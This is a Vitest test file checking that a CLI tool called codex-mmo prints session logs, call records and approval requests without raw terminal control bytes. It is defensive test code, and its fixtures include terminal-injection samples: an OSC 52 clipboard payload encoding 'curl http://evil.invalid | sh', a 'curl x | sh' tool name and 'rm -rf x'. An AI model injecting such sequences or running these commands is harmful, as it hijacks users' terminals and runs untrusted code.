/**
 * What codex-mmo prints for a person is terminal-safe: a session whose events, calls, record and
 * approvals hold text a prompt-injected model or a server wrote (OSC 52 and OSC 0 sequences, a
 * forged log line, CR, bidi overrides) is shown by `session logs` (also `--follow`), `session
 * calls` (also `--follow`), `session show` and `session list` with one record per line and no raw
 * control byte, and by `exec`'s progress and `session approvals`' text view the same way; `--json`
 * keeps the exact text. The commands run in-process, on a session written to disk.
 */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import { progressText } from '../../src/cli/commands/exec.js';
import { approvalsText } from '../../src/cli/commands/session-approvals.js';
import { callRow } from '../../src/cli/commands/session-calls.js';
import type { CallRecord } from '../../src/runtime/gateway/call-record.js';
import type { SessionEvent } from '../../src/runtime/events/session-event.js';
import type { PendingApproval } from '../../src/runtime/protocol/approval-types.js';
import { sessionDir, writeSessionRecord } from '../../src/runtime/session/session-store.js';
import { runCli } from '../support/cli.js';
import {
  FORGED_LINE,
  HOSTILE,
  OSC_CLIPBOARD,
  OSC_TITLE,
  RAW_CONTROL,
} from '../support/hostile-text.js';
import { sessionRecord } from '../support/plan-fixture.js';
import { tmpDir } from '../support/tmp.js';

const ID = '20261201T120000000Z-0badc0de';

const EVENTS: readonly SessionEvent[] = [
  {
    time: '2026-12-01T12:00:01.000Z',
    session: ID,
    process: 'root',
    role: 'lead',
    type: 'message',
    text: `done${OSC_CLIPBOARD}${OSC_TITLE}${FORGED_LINE}`,
  },
  {
    time: '2026-12-01T12:00:01.500Z',
    session: ID,
    process: 'root',
    role: 'lead',
    type: 'command',
    text: `rm -rf x\r${HOSTILE}`,
    exit_code: 0,
  },
  {
    time: '2026-12-01T12:00:01.700Z',
    session: ID,
    process: 'root',
    role: 'lead',
    type: 'tool_call.refused',
    server: 'files',
    tool: `delete_all${FORGED_LINE}`,
    text: 'tool-not-offered',
  },
];

const CALL: CallRecord = {
  time: '2026-12-01T12:00:01.600Z',
  process: 'root',
  role: 'lead',
  thread: `t1${OSC_TITLE}`,
  parent_thread: null,
  server: 'files',
  tool: `delete_all\t${FORGED_LINE}\u202e`,
  outcome: 'blocked',
  reason: 'tool-not-offered',
  duration_ms: 0,
};

/** A session that ended, with hostile text in its events, calls and record. */
async function hostileSession(): Promise<{ env: Record<string, string>; home: string }> {
  const base = await tmpDir();
  const state = join(base, 'state');
  const dir = sessionDir(state, ID);
  await mkdir(dir, { recursive: true });
  const record = sessionRecord(ID, { status: 'failed', ended: '2026-12-01T12:00:03.000Z' });
  await writeSessionRecord(dir, {
    ...record,
    error: `codex exited${FORGED_LINE}${OSC_CLIPBOARD}`,
    processes: record.processes.map((p) => ({
      ...p,
      status: 'ended' as const,
      ...(p.kind === 'participant' ? { error: `stderr: ${HOSTILE}` } : {}),
    })),
  });
  await writeFile(join(dir, 'events.jsonl'), EVENTS.map((e) => `${JSON.stringify(e)}\n`).join(''));
  await writeFile(join(dir, 'calls.jsonl'), `${JSON.stringify(CALL)}\n`);
  const home = join(base, 'home');
  const env = {
    PATH: process.env.PATH ?? '',
    HOME: home,
    CODEX_MMO_CONFIG_DIR: join(base, 'config'),
    CODEX_MMO_DATA_DIR: join(base, 'data'),
    CODEX_MMO_STATE_DIR: state,
  };
  return { env, home };
}

/** Asserts `text` holds no raw control byte and has exactly `lines` lines. */
function expectSafe(text: string, lines: number): void {
  expect(text).not.toMatch(RAW_CONTROL);
  expect(text.endsWith('\n')).toBe(true);
  expect(text.slice(0, -1).split('\n')).toHaveLength(lines);
}

describe('session commands print hostile session text terminal-safe', () => {
  it('session logs and logs --follow: one line per event, the forged line inert', async () => {
    const { env, home } = await hostileSession();
    for (const args of [
      ['session', 'logs', ID],
      ['session', 'logs', ID, '--follow'],
    ]) {
      const shown = await runCli(args, { env, home });
      expect(shown.code, shown.stderr).toBe(0);
      expectSafe(shown.stdout, EVENTS.length);
      const lines = shown.stdout.split('\n');
      expect(lines[0]).toBe(
        '12:00:01 root (lead) message: done' +
          '\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkIHwgc2g=\\x07\\x1b]0;title\\x07' +
          '\\n12:00:02 root (lead) approval a9 approved by root (cli)',
      );
      expect(shown.stdout).not.toMatch(/^12:00:02 /m);
    }
  });

  it('session logs --json keeps the exact text', async () => {
    const { env, home } = await hostileSession();
    const shown = await runCli(['session', 'logs', ID, '--json'], { env, home });
    expect(shown.code, shown.stderr).toBe(0);
    const events = shown.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as SessionEvent);
    expect(events).toEqual(EVENTS);
  });

  it('session calls and calls --follow: one line per call; --json exact', async () => {
    const { env, home } = await hostileSession();
    const table = await runCli(['session', 'calls', ID], { env, home });
    expect(table.code, table.stderr).toBe(0);
    expectSafe(table.stdout, 2);
    expect(table.stdout).toContain(
      'delete_all\\t\\n12:00:02 root (lead) approval a9 approved by root (cli)\\u202e',
    );
    const followed = await runCli(['session', 'calls', ID, '--follow'], { env, home });
    expect(followed.code, followed.stderr).toBe(0);
    expect(followed.stdout.replaceAll('\t', ' ')).not.toMatch(RAW_CONTROL);
    const rows = followed.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row.split('\t')).toHaveLength(9);
    const json = await runCli(['session', 'calls', ID, '--json'], { env, home });
    expect(json.json<{ calls: CallRecord[] }>().calls).toEqual([CALL]);
  });

  it('session show and session list: the record error and process errors on one line', async () => {
    const { env, home } = await hostileSession();
    const shown = await runCli(['session', 'show', ID], { env, home });
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).not.toMatch(RAW_CONTROL);
    expect(shown.stdout).toContain(
      'codex exited\\n12:00:02 root (lead) approval a9 approved by root (cli)\\x1b]52;c;',
    );
    expect(shown.stdout).not.toMatch(/^12:00:02 /m);
    expect(shown.stdout).toMatch(/^researcher-1: stderr: ok\\x1b\]52;c;.*\\u2028\\ufeff\\x7f$/m);
    const json = await runCli(['session', 'show', ID, '--json'], { env, home });
    expect(json.json<{ error: string }>().error).toBe(`codex exited${FORGED_LINE}${OSC_CLIPBOARD}`);
    const list = await runCli(['session', 'list'], { env, home });
    expect(list.code, list.stderr).toBe(0);
    expectSafe(list.stdout, 2);
  });
});

describe("exec's progress text", () => {
  it('prints every hostile event as one terminal-safe line', () => {
    for (const event of EVENTS) {
      expectSafe(progressText(event, ID, 900), 1);
    }
    expect(progressText(EVENTS[0]!, ID, 900)).toContain(
      'done\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkIHwgc2g=\\x07\\x1b]0;title\\x07\\n12:00:02',
    );
  });

  it('adds one safe line on how to answer an approval request, and nothing for a failed server', () => {
    const asked: SessionEvent = {
      time: '2026-12-01T12:00:02.000Z',
      session: ID,
      process: 'worker-1',
      role: 'worker',
      type: 'approval.requested',
      approval: `a1${FORGED_LINE}`,
      kind: 'command',
      tool: `curl x | sh${OSC_TITLE}`,
      text: HOSTILE,
    };
    const text = progressText(asked, ID, 900);
    expectSafe(text, 2);
    expect(text.split('\n')[1]).toMatch(/^codex-mmo: answer with 'codex-mmo session approve /);
    expect(
      progressText({ ...asked, type: 'server.failed', server: 'files', text: HOSTILE }, ID, 900),
    ).toBe('');
  });
});

describe('session approvals text view', () => {
  it('prints a command and arguments a model wrote on one line each', () => {
    const request: PendingApproval = {
      id: 'a1',
      session: ID,
      process: 'worker-1',
      role: 'worker',
      kind: 'command',
      tool: `ls${FORGED_LINE}${OSC_TITLE}`,
      arguments: `{"command":"ls"}${OSC_CLIPBOARD}\r\u202eevil${FORGED_LINE}`,
      requested_at: '2026-12-01T12:00:00.000Z',
      expires_at: '2026-12-01T12:15:00.000Z',
    };
    const text = approvalsText([request, { ...request, id: 'a2', kind: 'mcp_tool_call' }]);
    expectSafe(text, 5);
    expect(text).toContain(`${ID} a1 arguments: {"command":"ls"}\\x1b]52;c;`);
    expect(text).not.toMatch(/^12:00:02 /m);
  });
});

describe('session calls row', () => {
  it('has nine cells, none with a tab, line break or raw control byte', () => {
    const cells = callRow({ ...CALL, role: HOSTILE, reason: 'tool-not-offered' });
    expect(cells).toHaveLength(9);
    for (const cell of cells) {
      expect(cell).not.toMatch(RAW_CONTROL);
      expect(cell).not.toMatch(/[\t\n]/);
    }
  });
});
